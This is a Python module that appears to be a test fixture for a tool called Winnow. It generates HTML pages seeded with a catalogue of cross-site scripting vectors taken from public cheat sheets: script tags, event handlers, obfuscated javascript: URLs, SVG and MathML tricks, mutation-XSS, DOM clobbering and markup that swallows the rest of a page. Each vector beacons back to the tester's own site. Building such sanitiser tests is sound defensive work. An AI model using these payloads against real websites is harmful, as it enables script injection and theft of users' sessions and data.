"""Pages that try to run scripts or to make requests from whoever shows them.

Written for Winnow after the classes of the public cheat sheets. `@JS@` stands for a script that
asks the site for `/hit/…`, `@URL@` for such an address; what the site is asked for tells who fell.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass

SWALLOWS = "swallows"
"""The class of vectors that swallow what follows them; they stand at a page's end."""

_VECTORS = {
    "script": """
<script>@JS@</script>
<SCRIPT SRC=@URL@></SCRIPT>
<scr<script>ipt>@JS@</scr</script>ipt>
<script/xss src="@URL@"></script>
<<script>@JS@//<</script>
<script type="module">@JS@</script>
<noscript><p title="</noscript><img src=x onerror=@JS@>"></noscript>
""",
    "event handlers": """
<img src="@URL@" onerror="@JS@">
<IMG SRC=x OnErRoR="@JS@">
<img/src="x"/onerror="@JS@">
<img src=x onerror&#61;"@JS@" onload="@JS@">
<b onmouseover="@JS@">bold</b>
<details open ontoggle="@JS@"><summary>more</summary>less</details>
<p onpointerrawupdate="@JS@" onanimationstart="@JS@" style="animation:x 1s">moving</p>
<input autofocus onfocus="@JS@">
<a href="/a" onclick="@JS@" onfocus="@JS@" autofocus tabindex=1>here</a>
<video autoplay onloadstart="@JS@" src="@URL@"></video>
<audio src="@URL@" onerror="@JS@"></audio>
<body onload="@JS@">
<marquee onstart="@JS@">old</marquee>
<q cite="@URL@" oncopy="@JS@">quoted</q>
<td onclick="@JS@" background="@URL@">cell</td>
""",
    "addresses": """
<a href="javascript:@JS@">one</a>
<a href="JaVaScRiPt:@JS@">two</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;@JS@">three</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A@JS@">four</a>
<a href="&#0000106avascript:@JS@">five</a>
<a href="jav&#x09;ascript:@JS@">six</a>
<a href="jav&#x0A;ascript:@JS@">seven</a>
<a href=" &#14;  javascript:@JS@">eight</a>
<a href="java\0script:@JS@">nine</a>
<a href="javascript&colon;@JS@">ten</a>
<a href="vbscript:msgbox(1)">eleven</a>
<a href="data:text/html,<script>@JS@</script>">twelve</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">thirteen</a>
<a href="view-source:javascript:@JS@">fourteen</a>
<a href="blob:https://x/y">fifteen</a>
<a href="feed:javascript:@JS@">sixteen</a>
<a href="\u202ejavascript:@JS@">seventeen</a>
<a href="java\u200bscript:@JS@">eighteen</a>
<a href="https://good.example/\u202emoc.live" title="\u202e">nineteen</a>
<a href="//@HOST@/x" ping="@URL@">twenty</a>
<a href="file:///etc/passwd">twenty-one</a>
<a href="chrome-extension://x/y.html">twenty-two</a>
<a xlink:href="javascript:@JS@">twenty-three</a>
<form action="javascript:@JS@"><button formaction="javascript:@JS@">send</button></form>
<map name=m><area href="javascript:@JS@" shape=default></map><img usemap=#m src="@URL@">
<blockquote cite="javascript:@JS@">cited</blockquote>
<ins cite="javascript:@JS@">cited</ins>
""",
    "images": """
<img src="@URL@">
<img srcset="@URL@ 1x, @URL@ 2x">
<picture><source srcset="@URL@"><img src="@URL@"></picture>
<img data-src="javascript:@JS@" src="data:image/svg+xml,<svg onload=@JS@>">
<img lowsrc="@URL@" dynsrc="@URL@" longdesc="javascript:@JS@">
<img data-src='x" onerror="@JS@' alt='"><script>@JS@</script>'>
<img data-srcset='@URL@ 1x" onerror="@JS@'>
<image src="@URL@" onerror="@JS@">
<input type=image src="@URL@" onerror="@JS@">
<amp-img src="@URL@" onerror="@JS@"></amp-img>
""",
    "svg": """
<svg onload="@JS@"></svg>
<svg><script>@JS@</script></svg>
<svg><script href="@URL@"></script></svg>
<svg><a xlink:href="javascript:@JS@"><text y=20>text</text></a></svg>
<svg><animate onbegin="@JS@" attributeName=x dur=1s></svg>
<svg><image href="@URL@"></image><use href="@URL@#a"></use></svg>
<svg><foreignObject><img src=x onerror="@JS@"></foreignObject></svg>
<svg><set attributeName=href to="javascript:@JS@"></set></svg>
<svg><style><img src="</style><img src=x onerror=@JS@>"></svg>
<svg></p><style><a id="</style><img src=1 onerror=@JS@>">
""",
    "mathml": """
<math><mtext><script>@JS@</script></mtext></math>
<math href="javascript:@JS@"><mi>x</mi></math>
<math><maction actiontype="statusline#@URL@" xlink:href="javascript:@JS@">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="@JS@"></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=@JS@></style></mglyph></table></mtext></math>
""",
    "frames and plugins": """
<iframe src="@URL@"></iframe>
<iframe srcdoc="<script>parent.@JS@</script><img src=@URL@>"></iframe>
<iframe src="javascript:@JS@"></iframe>
<object data="@URL@"></object>
<object data="javascript:@JS@"></object>
<embed src="@URL@">
<embed src="javascript:@JS@">
<applet code="x" archive="@URL@"></applet>
<portal src="@URL@"></portal>
<fencedframe src="@URL@"></fencedframe>
""",
    "head elements": """
<base href="@URL@/">
<base href="javascript:@JS@//">
<meta http-equiv="refresh" content="999;url=@URL@">
<meta http-equiv="Set-Cookie" content="a=b">
<link rel="stylesheet" href="@URL@">
<link rel="preload" as="image" href="@URL@">
<link rel="prefetch" href="@URL@">
<link rel="icon" href="@URL@">
<link rel="import" href="@URL@">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@URL@"]}]}</script>
""",
    "css": """
<style>@import url(@URL@); p { background: url(@URL@) }</style>
<p style="background-image:url(@URL@)">painted</p>
<p style="width: expression(@JS@)">wide</p>
<p style="behavior: url(@URL@); -moz-binding: url(@URL@)">bound</p>
<div style="list-style:url(@URL@);cursor:url(@URL@),auto;position:fixed;inset:0">over all</div>
<table background="@URL@"><tr><td background="@URL@">one</td><td>two</td></tr></table>
<p class="x" style="content:url(@URL@)">filled</p>
""",
    "mutation": """
<p id="</p><img src=x onerror=@JS@>">twice</p>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@JS@></style></form>
<table><p><style><!--</style><img src=x onerror=@JS@>--></style></p></table>
<noembed><img title="</noembed><img src=x onerror=@JS@>"></noembed>
<select><style><!--</style><a rel="--></style></select><img src=x onerror=@JS@>">x</a></select>
<p title="`onmouseover=@JS@">backtick</p>
<listing>&lt;img src=x onerror=@JS@&gt;</listing>
<b>&lt;script&gt;@JS@&lt;/script&gt; &amp;lt;img src=x onerror=@JS@&amp;gt;</b>
<code>&lt;/code&gt;&lt;img src=x onerror=@JS@&gt;</code>
<pre class='language-x"><img src=x onerror=@JS@>'>listing</pre>
<time datetime='"><img src=x onerror=@JS@>'>now</time>
<abbr title='"><img src=x onerror=@JS@>'>abbr</abbr>
<p lang='en"><img src=x onerror=@JS@>' dir='"><script>@JS@</script>'>spoken</p>
<ol start='1"><img src=x onerror=@JS@>'><li value='1" onclick="@JS@'>first</li></ol>
<xmp><img src=x onerror=@JS@></xmp>
<template><img src=x onerror="@JS@"></template>
<template shadowrootmode=open><img src=x onerror="@JS@"></template>
<div><template shadowrootmode=open><script>@JS@</script></template>shadow</div>
<![CDATA[<img src=x onerror=@JS@>]]>
<?xml version="1.0"?><?php echo "<img src=x onerror=@JS@>" ?>
<!--[if gte IE 4]><script>@JS@</script><![endif]-->
<!--><img src=x onerror=@JS@>-->
<!-- --!><img src=x onerror=@JS@> -->
""",
    "clobbering": """
<form id=document name=cookie><input name=childNodes><input name=attributes></form>
<img name=body id=getElementById src="@URL@">
<a id=winnow name=winnow href="https://good.example/">clobbered</a>
<form name=parentNode><input id=nodeType name=nextSibling></form>
<p id=article>another article</p><p id=blocks>other blocks</p>
<iframe name=self src="@URL@"></iframe>
<p data-winnow-n="0" data-winnow-hidden contenteditable is="x-y" slot=a part=b>attributes</p>
<p popover id=pop>over</p><button popovertarget=pop>open</button>
""",
    SWALLOWS: """
<img src=x onerror=@JS@//
<textarea><img src=x onerror=@JS@>
<title><img src=x onerror=@JS@>
<style><img src=x onerror=@JS@>
<img src="x` `<script>@JS@</script>"` `>
<iframe src="@URL@" <p
<!-- <img src=x onerror=@JS@>
<a href="javascript:@JS@" title='
<plaintext><img src=x onerror=@JS@>
""",
}


@dataclass(frozen=True, slots=True)
class Vector:
    """One attempt, of one class, by its number."""

    number: int
    kind: str
    html: str


def vectors(site: str) -> Iterator[Vector]:
    """Every attempt; what falls for one asks `site` for `/hit/` and its number."""
    number = 0
    for kind, listed in _VECTORS.items():
        for line in listed.strip("\n").split("\n"):
            number += 1
            address = f"{site}/hit/{number}"
            script = f"new(Image)().src='{address}'"
            html = line.replace("@JS@", script).replace("@URL@", address)
            yield Vector(number, kind, html.replace("@HOST@", site.partition("//")[2]))


_SEEN = (
    "gulls barges fog hail herring ice islanders kelp lanterns lightning midges nets oars pilots"
    " porpoises rafts rain sails seals smoke spray swans timber trawlers whales wrecks"
).split()


def paragraph(vector: Vector) -> str:
    """A paragraph of a text with an attempt in its midst; no two tell of the same things."""
    seen = random.Random(vector.number).sample(_SEEN, 12)
    return (
        f"<p>The keeper of lamp {vector.number} wrote in his book of {', '.join(seen[:6])} before"
        f" dawn. {vector.html} Towards noon {' and '.join(seen[6:])} went by, and nobody on lamp"
        f" {vector.number} spoke of the storm again.</p>\n"
    )


def page(body: str, head: str = "") -> str:
    """A whole page around a text."""
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">{head}'
        f"<title>Lamps of the coast</title></head><body><article>{body}</article></body></html>"
    )


def whole(site: str, head: str = "") -> str:
    """One page with every attempt."""
    return page("".join(map(paragraph, vectors(site))), head)
